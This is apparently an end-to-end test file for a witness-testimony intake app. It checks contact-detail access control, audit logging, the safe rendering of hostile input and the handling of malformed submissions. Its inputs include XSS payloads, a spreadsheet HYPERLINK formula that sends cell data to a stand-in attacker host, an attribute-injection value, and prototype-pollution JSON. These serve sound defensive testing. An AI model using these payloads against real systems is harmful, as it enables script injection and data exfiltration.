import type { Browser } from 'playwright-core'
import { afterAll, beforeAll, describe, expect, it } from 'vitest'
import { en as text } from '#app/i18n/desk/en.ts'
import { launchBrowser } from '#tests/support/browser.ts'
import { Colleague } from '#tests/support/desk.ts'
import { HostileServer } from '#tests/support/hostile-server.ts'
import { FOUNDER, setUpOrganisation, type Organisation } from '#tests/support/organisation.ts'
import { addMember } from '#tests/support/people-by-code.ts'
import { readTarget, sealSample, sendSubmission, writeSample } from '#tests/support/sample.ts'
import { startServer, type TestServer } from '#tests/support/server.ts'
import { button } from '#tests/support/set-up.ts'
import { TARAS } from '#tests/support/team.ts'
import { KEEP, Witness } from '#tests/support/witness.ts'

const HANDLE = '@тільки-для-хранителів'
/** Whoever opens the queue reads this as text, or not at all. */
const HOSTILE = [
  '<img src=x onerror="document.title=`taken`"><script>document.title = "taken"</script>',
  '=HYPERLINK("https://attacker.example/?"&A1,"open")',
  '\u202Egnihtemos si siht\u202C \u2066hidden\u2069 \u0000\u0007',
  '[click](javascript:document.title="taken") {{7*7}} ${7*7}',
]
const LONG = 'слово '.repeat(10_000).trim()

describe('at the desk', () => {
  let server: TestServer
  let between: HostileServer
  let organisation: Organisation
  let browser: Browser

  beforeAll(async () => {
    between = await HostileServer.open(() => server.port)
    server = await startServer({ origin: between.origin })
    organisation = await setUpOrganisation(between.origin, server.setUpCode)
    await addMember(between.origin, await organisation.signIn(), TARAS)
    browser = await launchBrowser()
    const witness = await Witness.arrive(browser, between.origin, 'uk')
    const contact = {
      'consent.contact': 'yes',
      'contact.may': 'yes',
      'contact.channel': 'signal',
      'contact.handle': HANDLE,
    }
    await witness.submit({ ...KEEP, ...contact, 'account.narrative': 'Розповідь із контактом' })
    await witness.seat.leave()
  })
  afterAll(async () => {
    await browser.close()
    await server.end()
    await between.close()
  })

  it('a member without the contact grant never sees how to reach the witness', async () => {
    const taras = await Colleague.arrive(browser, between.origin)
    await taras.signIn(TARAS.handle, TARAS.passphrase)
    await taras.waitForQueue()
    await taras.openTestimony('Розповідь із контактом')
    await taras.reading.getByText(text.contact.notYours).waitFor()
    expect(await button(taras.page, text.contact.open).count()).toBe(0)
    expect(await taras.page.content()).not.toContain(HANDLE)
    await taras.seat.leave()
  })

  it('a custodian sees it after asking, and the look is on record before it is shown', async () => {
    const olena = await Colleague.arrive(browser, between.origin)
    await olena.signIn(FOUNDER.handle, FOUNDER.passphrase)
    await olena.waitForQueue()
    await olena.openTestimony('Розповідь із контактом')
    expect(await olena.page.content()).not.toContain(HANDLE)
    olena.seat.expectComplaint(/Failed to load resource/)
    between.intercept = exchange => (exchange.path === '/api/desk/events' ? null : exchange)
    await button(olena.page, text.contact.open).click()
    await olena.alerts.first().waitFor()
    expect(await olena.page.content()).not.toContain(HANDLE)
    between.clear()
    await button(olena.page, text.contact.open).click()
    await olena.reading.getByText(HANDLE).waitFor()
    expect(between.requests('POST', '/api/desk/events').length).toBeGreaterThan(0)
    await olena.seat.leave()
  })

  it('hostile words are shown as words: no script runs, nothing is fetched, what cannot be seen is marked', async () => {
    const target = await readTarget(between.origin)
    for (const [i, words] of HOSTILE.entries()) {
      await sendSubmission(
        between.origin,
        sealSample(target, writeSample(`Номер ${i} ${words}`, { contact: { name: words, handle: words } })).body,
      )
    }
    await sendSubmission(
      between.origin,
      sealSample(target, writeSample(`Довга ${LONG}`, { lang: 'en" onload="x' })).body,
    )
    const olena = await Colleague.arrive(browser, between.origin)
    await olena.signIn(FOUNDER.handle, FOUNDER.passphrase)
    await olena.waitForQueue()
    const title = await olena.page.title()
    for (const i of HOSTILE.keys()) {
      await olena.openTestimony(`Номер ${i}`)
      await olena.reading.getByText(`Номер ${i}`).first().waitFor()
      await button(olena.page, text.contact.open).click()
      await button(olena.page, text.contact.hide).waitFor()
    }
    await olena.openTestimony('Номер 2')
    expect(await olena.reading.innerText()).toContain('[U+202E]')
    expect(await olena.reading.innerText()).not.toContain('\u202E')
    await olena.openTestimony('Довга')
    await olena.reading.getByRole('button', { name: /Show the rest/ }).click()
    expect((await olena.reading.innerText()).split('слово').length - 1).toBe(10_000)
    expect(await olena.page.title()).toBe(title)
    expect(await olena.reading.locator('img, script, iframe, a[href*="javascript"]').count()).toBe(0)
    for (const request of olena.seat.requests) expect(new URL(request.url()).origin).toBe(between.origin)
    await olena.seat.leave()
  })

  it('what is sealed but of no form fails alone, with its code, and stops nobody', async () => {
    const target = await readTarget(between.origin)
    const bytes = (value: unknown) =>
      new TextEncoder().encode(typeof value === 'string' ? value : JSON.stringify(value))
    const good = writeSample('Добра серед поганих')
    const bad = [
      { ...good, card: bytes({ v: 1 }) },
      { ...good, card: bytes('not JSON') },
      { ...good, account: bytes({ v: 1, files: [] }) },
      { ...good, account: bytes({ v: 1, files: [{ upload: 'AAAAAAAAAAAAAAAAAAAAAA' }] }) },
      { ...good, account: bytes('{"__proto__":{"polluted":true},"files":[]}') },
    ]
    for (const plaintext of [...bad, good]) await sendSubmission(between.origin, sealSample(target, plaintext).body)
    const olena = await Colleague.arrive(browser, between.origin)
    await olena.signIn(FOUNDER.handle, FOUNDER.passphrase)
    await olena.waitForQueue()
    await olena.showAll()
    await expect.poll(() => olena.row(text.queue.failed).filter({ hasText: 'malformed' }).count()).toBe(2)
    const same = olena.row('Добра серед поганих')
    expect(await same.count()).toBe(4)
    const seen: string[] = []
    for (const row of await same.all()) {
      await row.click()
      const settled = olena.reading.or(olena.alerts.filter({ hasText: text.queue.failed }))
      await settled.first().waitFor()
      seen.push((await olena.reading.count()) > 0 ? 'opened' : await olena.alerts.locator('code').first().innerText())
      await olena.page.keyboard.press('Escape')
      await olena.page.getByText(text.empty.choose).waitFor()
    }
    expect(seen.sort()).toEqual(['malformed', 'malformed', 'opened', 'tampered'])
    await olena.seat.leave()
  })
})
